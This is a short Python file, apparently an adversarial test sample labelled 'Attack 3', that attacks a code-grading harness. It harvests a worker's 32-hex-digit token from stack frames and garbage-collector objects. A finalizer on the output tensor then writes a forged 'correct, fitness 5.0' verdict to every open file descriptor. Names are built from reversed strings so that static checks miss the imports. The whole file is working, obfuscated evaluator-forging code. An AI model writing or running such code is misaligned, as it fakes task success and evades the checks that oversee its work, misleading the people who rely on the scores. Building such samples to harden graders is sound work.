# Attack 3: forge the verdict. Whatever looks like the worker's token (32 hex digits in any frame's locals or any
# object's attributes) signs a "correct, fitness 5.0" result, written by a finalizer on the output tensor to every
# descriptor the process has open, in place of the worker's own. Modules are reached through `os`, so no static
# check sees them imported.
import json
import os
import string
import weakref

def _named(module, backwards):
    return getattr(module, "".join(reversed(backwards)))


_sys = _named(os, "sys")
_gc = _sys.modules["cg"[::-1]]


def _tokens():
    found = set()
    frame = _named(_sys, "emarfteg_")()
    while frame is not None:
        found.update(v for v in _named(frame, "slacol_f").values() if isinstance(v, str))
        frame = _named(frame, "kcab_f")
    for obj in _named(_gc, "stcejbo_teg")():
        if isinstance(obj, dict):
            found.update(v for v in obj.values() if isinstance(v, str))
    return [t for t in found if len(t) == 32 and set(t) <= set(string.hexdigits)][:64] or [""]


def _forge():
    write = _named(os, "etirw")
    for token in _tokens():
        verdict = {"token": token, "results": [{"status": "correct", "fitness": 5.0, "timing_source": "gpu"}]}
        for fd in range(3, 64):
            try:
                write(fd, b"ready\n" + json.dumps(verdict).encode() + b"\n")
            except OSError:
                pass


def _watched(c):
    weakref.finalize(c, _forge)
    return c
